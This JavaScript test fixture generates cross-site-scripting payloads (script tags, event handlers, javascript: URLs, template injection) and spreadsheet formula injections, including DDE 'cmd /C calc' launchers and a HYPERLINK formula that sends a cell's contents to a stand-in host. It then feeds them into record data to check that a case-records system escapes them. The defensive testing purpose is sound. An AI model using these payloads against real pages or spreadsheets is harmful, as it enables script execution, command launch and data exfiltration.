// Values that would do harm where a page, an address or a spreadsheet takes them for more than text. Made here, from the ways a value
// can leave its place (OWASP, Cross-site scripting prevention; OWASP, CSV injection), in a fixed order.

const leave = ['', '"', "'", '">', "'>", '-->', '</textarea>', '</title>', '</script>', '</style>', '</noscript>', '</option></select>', '</text></svg>', ']]>', '\\"', '&quot;>', '\u2028']
const act = [
  '<script data-hostile>fired()</script>', '<img data-hostile src=x onerror=fired()>', '<svg data-hostile onload=fired()>', '<b data-hostile onmouseover=fired()>x</b>',
  '<iframe data-hostile srcdoc="<script>parent.fired()</script>"></iframe>', '<a data-hostile href="javascript:fired()">x</a>', '<form data-hostile action="javascript:fired()"><button>x',
  '<input data-hostile autofocus onfocus=fired()>', '<details data-hostile open ontoggle=fired()>', '<body data-hostile onpageshow=fired()>', '<math><a data-hostile xlink:href="javascript:fired()">x',
  '<meta data-hostile http-equiv=refresh content="0;url=javascript:fired()">', '<link data-hostile rel=stylesheet href=//x.invalid>', '<base data-hostile href=//x.invalid/>',
  ' data-hostile onmouseover=fired() x=', ' data-hostile autofocus onfocus=fired() ', ' data-hostile style=animation-name:x onanimationstart=fired() ',
  '<style data-hostile>@import "//x.invalid"</style>', '<object data-hostile data="javascript:fired()">', '<embed data-hostile src="javascript:fired()">', '<audio data-hostile src onerror=fired()>',
  '<video data-hostile><source onerror=fired()></video>', '<marquee data-hostile onstart=fired()>', '<select data-hostile autofocus onfocus=fired()>', '<ScRiPt data-hostile>fired()</sCrIpT>',
  '<img/data-hostile/src=x/onerror=fired()>', '<<script data-hostile>fired()//<</script>', '%3Cscript data-hostile%3Efired()%3C/script%3E', '&lt;img data-hostile src=x onerror=fired()&gt;',
  '\\u003cimg data-hostile src=x onerror=fired()\\u003e', '{{constructor.constructor("fired()")()}}', '${fired()}'
]

// Attributes are none once their tag is closed, nor is a template outside its script.
const canAct = (out, what) => !(what.startsWith(' ') && out.includes('>')) && !(what.startsWith('$') && out.startsWith('</script'))

// Each carries its number, so that one that runs says which it is.
export const SCRIPTS = leave.flatMap(out => act.filter(what => canAct(out, what)).map(what => out + what)).slice(0, 500).map((text, number) => text.replaceAll('fired()', `fired(${number})`))

const decoded = text => text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('\\u003c', '<').replaceAll('\\u003e', '>').replace(/%3[CE]/g, decodeURIComponent)

// Pages that show a value without escaping it, a way each: what the look at pages must notice.
export const PLANTED = [
  text => `<p>${text}</p>`, text => `<p title="${text}" class="y">x</p>`, text => `<p title='${text}' class='y'>x</p>`, text => `<p title=${text}>x</p>`, text => `<p>${decoded(text)}</p>`,
  text => `<script>var x = \`${text}\`</script>`, text => `<textarea>${text}</textarea>`, text => `<select><option>${text}</option></select>`, text => `<svg><text>${text}</text></svg>`
].map(page => text => `<!DOCTYPE html><title>x</title><main><h1>x</h1>${page(text)}</main>`)
// In braces: takes a library that we do not have.
export const needsLibrary = text => text.includes('{{')

const formulas = ['=1+1', '=cmd|\'/C calc\'!A0', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("http://x.invalid?"&A1)', '=WEBSERVICE("http://x.invalid")', '=IMPORTXML("http://x.invalid","//a")',
  '=DDE("cmd","/C calc","x")', '@import', '-2+3+cmd|\' /C calc\'!A0', '=1;2', '=1,2', '="a"&"b"', '+\'x\'!A1', '=\'x\'!A1', '=SUM(A1:A9)', '=A1&CHAR(10)', '=ROW()', '@x']
const before = ['', ' ', '\t', '\u00a0', '\u200b', '\ufeff', '"', '",', ';', '\uff1d']

export const FORMULAS = before.flatMap(start => formulas.map(what => start + what)).slice(0, 200)

const TEXTS = { text: 1, name: 1, names: 'list', narrative: 1, address: 1, addresses: 'list', texts: 'list', identifier: 1 }
const FIRST = new Set(['death', 'person', 'incident', 'exhibit', 'submission', 'officer', 'unit']) // what the others refer to

// So many values share the death that their other records are about: one page shows the records of all of them.
export const OF_ONE_DEATH = 10

// A death, and one record of each other kind, with `value` in every field that holds text. kinds: as `colligate kinds --json`.
function recordsOf (kinds, number, value, known) {
  const tag = `X${number}`
  const lines = []
  const add = (kind, set) => lines.push({ known_at: known, kind, id: `${tag}-${kind}`, source: 'form', set })
  const refs = field => {
    const target = field.values.split('|')[0]
    if (target === 'death') return `X${number - number % OF_ONE_DEATH}-death`
    return FIRST.has(target) ? `${tag}-${target}` : undefined
  }
  for (const pass of [true, false]) {
    for (const kind of kinds) {
      if (FIRST.has(kind.name) !== pass || ['restriction', 'conflict', 'link', 'same_event', 'characteristics'].includes(kind.name)) continue
      const set = {}
      for (const field of kind.fields) {
        if (TEXTS[field.type]) set[field.name] = TEXTS[field.type] === 'list' ? [value] : value
        else if (field.type === 'ref' && refs(field)) set[field.name] = refs(field)
        else if (field.type === 'refs' && refs(field)) set[field.name] = [refs(field)]
        else if (field.type === 'code' && field.values && !field.values.startsWith('@')) set[field.name] = field.values.split(' ')[0]
      }
      if (kind.name === 'death') Object.assign(set, { ref: `${tag} ${value}`.slice(0, 120), unit: 'KG', found: known.slice(0, 10), place: { lat: 51.53, lon: 0.07 } })
      if (kind.name === 'person') delete set.dob
      add(kind.name, set)
    }
  }
  return lines
}

export const feedOf = (kinds, values, known) =>
  values.flatMap((value, number) => recordsOf(kinds, number, value, known)).map(line => JSON.stringify(line)).join('\n') + '\n'
